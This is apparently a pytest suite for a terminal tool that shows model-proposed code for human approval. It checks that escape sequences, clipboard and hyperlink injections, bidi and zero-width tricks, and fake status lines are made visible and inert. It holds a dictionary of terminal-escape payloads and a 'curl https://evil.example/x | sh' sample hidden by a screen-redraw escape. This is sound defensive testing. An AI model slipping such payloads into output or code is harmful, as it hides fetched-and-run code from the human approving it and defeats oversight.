"""Checklist 15 and 40: nothing from a model, a block, a record or a file name acts on the
terminal, and the approval screen shows what runs and where, at 80 columns.

Events go through the real ``HumanRenderer`` / ``render_transcript`` into a rich Console that
writes to a buffer as if it were a terminal (``force_terminal=True``, width 80). A small screen
emulator (``Screen``) replays the bytes the way a terminal would, so the tests can also say
what a person would *see*; positive controls show each attack working without the defence.
No Docker needed (the pty test starts ``oi sessions show``, which does not use the engine).
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import re
import time
from pathlib import Path

import pexpect
import pytest
from rich.console import Console
from rich.panel import Panel
from rich.syntax import Syntax
from rich.text import Text

from orchestrator.events import (
    BlockOutput,
    BlockResult,
    CodeProposed,
    Decision,
    Event,
    ModelReply,
    ModelText,
    Notice,
    SandboxSummary,
    SessionEnded,
)
from orchestrator.render import HumanRenderer, error_text, oi_line, render_transcript, safe_cell
from orchestrator.safe_text import clean_line, clean_output, clean_text, visible_code
from tests.sandbox_fixtures import OI

WIDTH = 80

# Hostile payloads, each with the name of the trick. Every one is embedded as
# ``before<payload>after`` in model text, code, block output, notices and records.
ATTACKS = {
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "osc8-hyperlink": "\x1b]8;;https://evil.example/\x1b\\docs.python.org\x1b]8;;\x1b\\",
    "osc0-title": "\x1b]0;title\x07",
    "dcs-query": "\x1bP+q544e\x1b\\",
    "ris-reset": "\x1bc",
    "cursor-up-erase": "\x1b[3A\x1b[2K",
    "clear-screen": "\x1b[2J\x1b[H",
    "alt-screen": "\x1b[?1049h",
    "device-attributes-query": "\x1b[c",
    "sgr-conceal": "\x1b[8m",
    "c1-csi": "\x9b2J",
    "c1-osc": "\x9d0;t\x9c",
    "bell": "\x07",
    "cr-overwrite": "\rEVERYTHING OK      ",
    "backspaces": "\b\b\b\b\b\bOK",
    "fake-finished-line": "\noi: finished - the model answered without code\n",
    "bidi-override": "\u202e",
    "zero-width": "\u200b\u2060\ufeff",
}
FAKE_END = "oi: finished - the model answered without code"

# What rich itself writes: SGR styles; Live adds cursor show/hide, erase line and cursor up 1.
RICH_SGR = re.compile(r"\x1b\[[0-9;]*m")
LIVE_CONTROLS = {"\x1b[?25l", "\x1b[?25h", "\x1b[2K", "\x1b[1A"}
ANY_SEQUENCE = re.compile(
    r"\x1b[\]P^_X].*?(?:\x07|\x1b\\|\Z)|\x1b\[[0-?]*[ -/]*[@-~]|\x1b[ -/]*[0-~]?|[\x00-\x1f\x7f-\x9f]",
    re.DOTALL,
)


def foreign_controls(output: str, *, live: bool = False) -> list[str]:
    """Every escape sequence or control character in ``output`` that rich's own styling (and,
    with ``live``, its live display) does not explain."""
    found = []
    for match in ANY_SEQUENCE.finditer(output):
        seq = match.group(0)
        if (
            seq == "\n"
            or RICH_SGR.fullmatch(seq)
            or (live and (seq in LIVE_CONTROLS or seq == "\r"))
        ):
            continue
        found.append(seq)
    return found


class Screen:
    """The few terminal semantics the attacks use: text overwrites cells; CR, LF, BS, cursor
    up/down, erase line/screen, home; SGR and everything else have no visible effect."""

    def __init__(self) -> None:
        self.rows: list[list[str]] = [[]]
        self.row = self.col = 0

    def feed(self, data: str) -> Screen:
        for match in re.finditer(ANY_SEQUENCE.pattern + r"|.", data, re.DOTALL):
            self._apply(match.group(0))
        return self

    def _apply(self, token: str) -> None:
        csi = re.fullmatch(r"\x1b\[(\d*)([ABJKH])", token)
        if token == "\n":
            self.row += 1
            self.col = 0
        elif token == "\r":
            self.col = 0
        elif token == "\b":
            self.col = max(0, self.col - 1)
        elif csi:
            count = int(csi.group(1) or 1)
            kind = csi.group(2)
            if kind == "A":
                self.row = max(0, self.row - count)
            elif kind == "B":
                self.row += count
            elif kind == "K":
                self.rows[self.row] = [] if csi.group(1) == "2" else self.rows[self.row][: self.col]
            elif kind == "J":
                self.rows = [[] for _ in self.rows]
            else:
                self.row = self.col = 0
        elif len(token) == 1 and token >= " " and not 0x7F <= ord(token) <= 0x9F:
            while len(self.rows) <= self.row:
                self.rows.append([])
            line = self.rows[self.row]
            line.extend(" " * (self.col + 1 - len(line)))
            line[self.col] = token
            self.col += 1
        while len(self.rows) <= self.row:
            self.rows.append([])

    @property
    def text(self) -> str:
        return "\n".join("".join(row).rstrip() for row in self.rows)


def screen(output: str) -> str:
    return Screen().feed(output).text


def squeezed(text: str) -> str:
    """Screen text without panel borders and whitespace: wrapped values join up again."""
    return re.sub(r"[\s│╭╮╰╯─]", "", text)


def terminal(width: int = WIDTH, *, tty: bool = True) -> tuple[Console, io.StringIO]:
    buffer = io.StringIO()
    console = Console(
        file=buffer,
        width=width,
        force_terminal=tty,
        color_system="standard" if tty else None,
        highlight=False,
    )
    return console, buffer


def render(
    events: list[Event], *, width: int = WIDTH, markdown: bool = False, tty: bool = True
) -> str:
    console, buffer = terminal(width, tty=tty)
    renderer = HumanRenderer(markdown=markdown, out=console, err=console)
    for event in events:
        renderer.render(event)
    renderer.interrupt()
    return buffer.getvalue()


def sandbox(**changes: object) -> SandboxSummary:
    values: dict[str, object] = {
        "image": "oi-python:3f9a1c2b7d4e",
        "memory": "1 GiB",
        "cpus": 1.0,
        "pids": 256,
        "timeout_s": 60.0,
        "network": "none",
        "isolation": "runc",
        "workdir": "/home/dev/project",
    }
    values.update(changes)
    return SandboxSummary(**values)  # type: ignore[arg-type]


def proposal(
    code: str, box: SandboxSummary | None = None, language: str = "python"
) -> CodeProposed:
    return CodeProposed(1, language, code, "0123456789abcdef" * 4, box or sandbox(), "markdown")


def wrapped(payload: str) -> str:
    return f"before{payload}after"


# --- every path, every attack -------------------------------------------------------------------


@pytest.mark.parametrize("name", list(ATTACKS))
def test_model_text_streamed_plain(name: str) -> None:
    text = wrapped(ATTACKS[name])
    output = render([ModelText(text[:7]), ModelText(text[7:]), ModelReply(text, "stop", 0, 0.1)])
    assert foreign_controls(output) == []
    assert clean_text(text) in output  # made visible, not dropped


@pytest.mark.parametrize("name", list(ATTACKS))
def test_model_text_as_markdown(name: str) -> None:
    text = "## Plan\n\n" + wrapped(ATTACKS[name])
    output = render([ModelText(text), ModelReply(text, "stop", 0, 0.1)], markdown=True)
    assert foreign_controls(output, live=True) == []
    plain = RICH_SGR.sub("", output)
    for piece in clean_text(wrapped(ATTACKS[name])).split("\n"):
        assert piece.strip() in plain


@pytest.mark.parametrize("name", list(ATTACKS))
def test_code_on_the_approval_screen(name: str) -> None:
    code = "x = 1\n" + wrapped(ATTACKS[name]) + "\n"
    output = render([proposal(code)])
    assert foreign_controls(output) == []
    shown, warnings = visible_code(code)
    on_screen = screen(output)
    for line in shown.split("\n"):
        assert line.strip() in on_screen
    for warning in warnings:
        assert squeezed(f"! {warning}") in squeezed(on_screen)


@pytest.mark.parametrize("stream", ["stdout", "stderr"])
@pytest.mark.parametrize("name", list(ATTACKS))
def test_block_output(name: str, stream: str) -> None:
    text = wrapped(ATTACKS[name]) + " \x1b[31mred\x1b[0m\n"
    output = render([BlockOutput(1, stream, text)])  # type: ignore[arg-type]
    # Only SGR colour (and CR for progress bars) may pass from a block.
    allowed_cr = output.replace("\r", "")
    assert foreign_controls(allowed_cr) == []
    assert "\x1b[8m" not in output or name == "sgr-conceal"
    assert clean_output(text) in output
    assert "\x1b[31mred\x1b[0m" in output  # colour kept on a terminal


@pytest.mark.parametrize("name", list(ATTACKS))
def test_notices_results_and_the_end_line(name: str) -> None:
    payload = wrapped(ATTACKS[name])
    events: list[Event] = [
        Notice(f"waiting for quota for {payload}"),
        BlockResult(1, "python", "ab" * 32, None, True, False, 60.0, False, payload + "\nmore"),
        Decision(1, "declined", "ab" * 32, "policy", payload),
        SessionEnded("loop_guard", payload, 3, 10, 20),
    ]
    output = render(events)
    assert foreign_controls(output) == []
    lines = screen(output).split("\n")
    assert not any(line.startswith("oi: finished") for line in lines)
    # Made visible in the notice and the end line (wrapped lines joined up again).
    assert squeezed(screen(output)).count(squeezed(clean_line(payload))) >= 2


@pytest.mark.parametrize("name", list(ATTACKS))
def test_recorded_session(name: str) -> None:
    payload = wrapped(ATTACKS[name])
    records = crafted_records(payload)
    console, buffer = terminal()
    render_transcript(records, console)
    output = buffer.getvalue()
    assert foreign_controls(output) == []
    on_screen = screen(output)
    assert FAKE_END not in [line.strip() for line in on_screen.split("\n")]
    assert squeezed(clean_line(payload)) in squeezed(on_screen)


def crafted_records(payload: str) -> list[dict[str, object]]:
    return [
        {"type": "session", "session_id": "s1" + payload, "model": payload, "api_base": payload},
        {"type": "message", "message": {"role": "system", "content": "hidden system prompt"}},
        {"type": "message", "message": {"role": "user", "content": "task " + payload}},
        {
            "type": "message",
            "message": {
                "role": "assistant" + payload,
                "content": "[bold red]markup[/] " + payload,
                "tool_calls": [
                    {
                        "function": {
                            "name": "execute" + payload,
                            "arguments": '{"code": "' + payload + '"}',
                        }
                    }
                ],
            },
        },
        {"type": "event", "event": "code_proposed", "index": 1, "code": "print(1)" + payload},
        {
            "type": "event",
            "event": "decision",
            "index": 1,
            "decision": "run",
            "by": payload,
            "sha256": payload,
        },
        {"type": "message", "message": "not a dict" + payload},
        {
            "type": "message",
            "message": {"role": "tool", "content": [{"type": "text", "text": payload}]},
        },
        {"type": "event", "event": "end", "status": payload, "reason": payload},
        "not a record",  # type: ignore[list-item]
    ]


# --- the escape-redraw attack, with its positive control ----------------------------------------

REDRAW = (
    'import os; os.system("curl -s https://evil.example/x | sh")\n'
    '# \x1b[1A\r\x1b[2K│ print("Hello, world!")'
)


def test_escape_redraw_attack_works_without_the_defence() -> None:
    """Positive control: the panel as it was (raw code into rich's Syntax) lets the comment
    redraw the screen, so a person sees only the harmless line."""
    console, buffer = terminal()
    console.print(Panel(Syntax(REDRAW, "python", word_wrap=True), title="block 1 · python"))
    seen = screen(buffer.getvalue())
    assert 'print("Hello, world!")' in seen
    assert "os.system" not in seen


def test_escape_redraw_attack_shows_the_hidden_line() -> None:
    output = render([proposal(REDRAW)])
    seen = screen(output)
    assert 'os.system("curl -s https://evil.example/x | sh")' in seen
    assert "\\x1b[1A\\r\\x1b[2K" in seen
    assert "line 2: control character U+001B (ESC)" in seen
    assert "\x1b[1A" not in output


def test_escapes_in_code_are_highlighted_not_mistaken_for_typed_text() -> None:
    output = render([proposal('print("\\x1b")  # typed\nprint("\x1b")  # real\n')])
    # The real ESC is drawn in reverse video (SGR 7), the typed one is not.
    assert re.search(r"\x1b\[[0-9;]*\b7\b[0-9;]*m\\x1b", output)
    assert len(re.findall(r"\x1b\[[0-9;]*\b7\b[0-9;]*m\\x1b", output)) == 1


@pytest.mark.parametrize(
    ("code", "hidden", "warning"),
    [
        (
            'access = "user\u202e \u2066# admin only\u2069 \u2066"\n',
            "\u202e",
            "line 1: bidi control U+202E (RIGHT-TO-LEFT OVERRIDE): the code may display in "
            "another order than it runs",
        ),
        (
            "if is_admin\u200b:\n    run()\n",
            "\u200b",
            "line 1: invisible character U+200B (ZERO WIDTH SPACE)",
        ),
        ("\u3164 = 'x'\n", "\u3164", "line 1: invisible character U+3164 (HANGUL FILLER)"),
        ("s = 'ok'\U000e0041\U000e0042\n", "\U000e0041", "line 1: tag characters"),
    ],
)
def test_bidi_and_zero_width_are_escaped_with_a_warning(
    code: str, hidden: str, warning: str
) -> None:
    output = render([proposal(code)], width=125)
    seen = screen(output)
    assert visible_code(code)[0].split("\n")[0] in seen
    assert hidden.encode("unicode_escape").decode() in seen
    assert warning in seen
    assert hidden not in output


# --- rich markup is text ------------------------------------------------------------------------


def test_rich_markup_in_model_text_and_file_names_is_literal() -> None:
    markup = "[bold red]alarm[/] [link=https://evil.example]docs[/link] :warning:"
    box = sandbox(workdir="/tmp/[bold]x[/bold]")
    output = render(
        [
            ModelText(markup),
            ModelReply(markup, "stop", 0, 0.1),
            proposal("print(1)\n", box),
            Notice(f"cannot read {markup}"),
            SessionEnded("finished", markup, 1, 1, 1),
        ]
    )
    seen = screen(output)
    assert squeezed(seen).count(squeezed(markup)) == 3
    assert "/tmp/[bold]x[/bold] → /workspace" in seen
    assert "\x1b]8;" not in output
    assert ":warning:" in seen  # no emoji substitution either
    md = render([ModelText(markup), ModelReply(markup, "stop", 0, 0.1)], markdown=True)
    assert "[bold red]alarm[/]" in screen(md) and "\x1b]8;" not in md


def test_markdown_links_and_html_cannot_hide_text() -> None:
    text = "See [docs.python.org](https://evil.example/) <!-- hidden note -->\n\n<div>raw</div>\n"
    output = render([ModelText(text), ModelReply(text, "stop", 0, 0.1)], markdown=True)
    seen = screen(output)
    assert "https://evil.example/" in seen  # the target is shown, not behind an OSC 8 link
    assert "hidden note" in seen and "<div>raw</div>" in seen
    assert "\x1b]8;" not in output


def test_cli_helpers_keep_untrusted_parts_inert() -> None:
    console, buffer = terminal()
    name = "data\x1b]0;t\x07[red].csv\noi: finished - the model answered without code"
    console.print(error_text(f"cannot read {name}: No such file"))
    console.print(oi_line(f"skipped {name}", style="yellow"))
    console.print(safe_cell(name))
    output = buffer.getvalue()
    assert foreign_controls(output) == []
    lines = screen(output).split("\n")
    assert not any(line.startswith("oi: finished") for line in lines)
    assert all("[red].csv" in line for line in lines[:1])


# --- the approval screen at 80 columns ----------------------------------------------------------

LONG_WORKDIR = "/home/someone/projects/" + "a-rather-long-folder-name/" * 5 + "end"


@pytest.mark.parametrize("width", [80, 125])
@pytest.mark.parametrize(
    ("box", "network"),
    [
        (sandbox(network="open", workdir=LONG_WORKDIR), "open (full internet)"),
        (sandbox(network="none", workdir=LONG_WORKDIR), "none"),
        (
            dataclasses.replace(
                sandbox(network="allowlist"),
                workdir=LONG_WORKDIR,
                allow_hosts=("pypi", "files.pythonhosted.org"),
            ),
            "allowlist: pypi, files.pythonhosted.org",
        ),
    ],
)
def test_network_and_workdir_are_fully_visible(
    box: SandboxSummary, network: str, width: int
) -> None:
    code = "import pandas as pd\n" + "df = pd.read_csv('x.csv')  # a long line " + "x" * 90 + "\n"
    for tty in (True, False):  # a terminal, and a pipe / CI log
        output = render([proposal(code, box)], width=width, tty=tty)
        seen = screen(output)
        assert all(len(line) <= width for line in seen.split("\n"))
        assert f"network  {network}" in seen
        assert squeezed(f"{LONG_WORKDIR} → /workspace") in squeezed(seen)
        assert "sandbox  oi-python:3f9a1c2b7d4e · 1 GiB · 1 CPU · 256 pids · 60 s · runc" in seen
        assert "sha256   0123456789abcdef · 2 lines" in seen
        assert squeezed(code) in squeezed(seen)
        if not tty:
            assert "\x1b" not in output
    if box.network == "open":
        assert re.search(
            r"\x1b\[1;31m[^\x1b]*open \(full internet\)", render([proposal(code, box)])
        )


def test_sandbox_details_in_the_border_were_cut_at_80_columns() -> None:
    """Positive control: the former layout (details in the bottom border) lost the network
    and the workdir at 80 columns."""
    box = sandbox(network="open")
    subtitle = Text(
        f"{box.image} · {box.memory} · {box.cpus:g} CPU · {box.pids} pids · {box.timeout_s:g} s "
        f"· {box.isolation} · network open (full internet) · {box.workdir} → /workspace"
    )
    console, buffer = terminal()
    console.print(Panel(Syntax("print(1)", "python"), subtitle=subtitle, subtitle_align="left"))
    seen = screen(buffer.getvalue())
    assert "full internet" not in seen and "/workspace" not in seen
    fixed = screen(render([proposal("print(1)", box)]))
    assert "open (full internet)" in fixed and "/workspace" in fixed


def test_output_colour_is_reset_before_oi_draws_again() -> None:
    """A block that ends in conceal (or black on black) would hide the next approval panel."""
    output = render([BlockOutput(1, "stdout", "\x1b[8m\x1b[30;40mhidden"), proposal("print(2)\n")])
    end_of_output = output.index("hidden") + len("hidden")
    panel = output.index("block 1 · python")
    assert "\x1b[0m" in output[end_of_output:panel]
    assert output[end_of_output:].startswith("\x1b[0m\n")  # and the panel starts on its own line


def test_a_pipe_gets_no_escape_at_all() -> None:
    payload = "".join(ATTACKS.values())
    events: list[Event] = [
        ModelText(payload),
        ModelReply(payload, "stop", 0, 0.1),
        proposal("print(1)" + payload),
        BlockOutput(1, "stdout", payload),
        Notice(payload),
        SessionEnded("finished", payload, 1, 1, 1),
    ]
    output = render(events, tty=False)
    assert foreign_controls(output.replace("\r", "")) == []
    assert "\x1b" not in output


# --- a real terminal: oi sessions show on a crafted record --------------------------------------


def test_sessions_show_in_a_pty(tmp_path: Path) -> None:
    payload = "".join(ATTACKS.values())
    sessions = tmp_path / "data" / "oi" / "sessions"
    sessions.mkdir(parents=True)
    record_file = sessions / "20260101T000000-crafted.jsonl"
    lines = [
        json.dumps({"t": time.time(), **r}) for r in crafted_records(payload) if isinstance(r, dict)
    ]
    record_file.write_text("\n".join(lines) + "\n")
    env = {
        **os.environ,
        "XDG_DATA_HOME": str(tmp_path / "data"),
        "OI_CONFIG_FILE": str(tmp_path / "none.toml"),
        "TERM": "xterm-256color",
        "COLUMNS": str(WIDTH),
        "LINES": "40",
    }

    def run_in_pty(program: str, args: list[str]) -> str:
        child = pexpect.spawn(
            program, args, env=env, timeout=60, dimensions=(40, WIDTH), cwd=str(tmp_path)
        )
        try:
            data: bytes = child.read()
        finally:
            child.close(force=True)
        return data.decode("utf-8", "replace")

    # Positive control: the pty carries the payload to the terminal when nothing cleans it.
    raw_file = tmp_path / "raw.txt"
    raw_file.write_text(payload)
    raw = run_in_pty("/bin/cat", [str(raw_file)])
    assert "\x1b]52;c;" in raw and "\x1b[3A" in raw and foreign_controls(raw)

    shown = run_in_pty(OI, ["sessions", "show", "20260101T000000-crafted"])
    assert "s1\\x1b]52;c;" in shown  # the clipboard write is shown, not done
    assert foreign_controls(shown.replace("\r\n", "\n")) == []
    assert "[bold red]markup[/]" in shown


def test_every_mount_and_passed_variable_is_on_the_approval_screen() -> None:
    """What a block can reach besides the workdir: each extra mount (read-write ones said so)
    and the names of the variables passed in (never their values), at 80 columns too."""
    box = sandbox(
        mounts=(
            "/srv/data → /mnt/data (read-only)",
            "/home/dev/out-of-tree/results → /out (read-write)",
        ),
        env=("MYVAR", "AWS_REGION"),
    )
    for tty in (True, False):
        seen = screen(render([proposal("print(1)", box)], width=80, tty=tty))
        assert "mount    /srv/data → /mnt/data (read-only)" in seen
        assert "mount    /home/dev/out-of-tree/results → /out (read-write)" in seen
        assert "env      MYVAR, AWS_REGION" in seen
    plain = screen(render([proposal("print(1)", sandbox())], width=80))
    assert "mount" not in plain and "env " not in plain
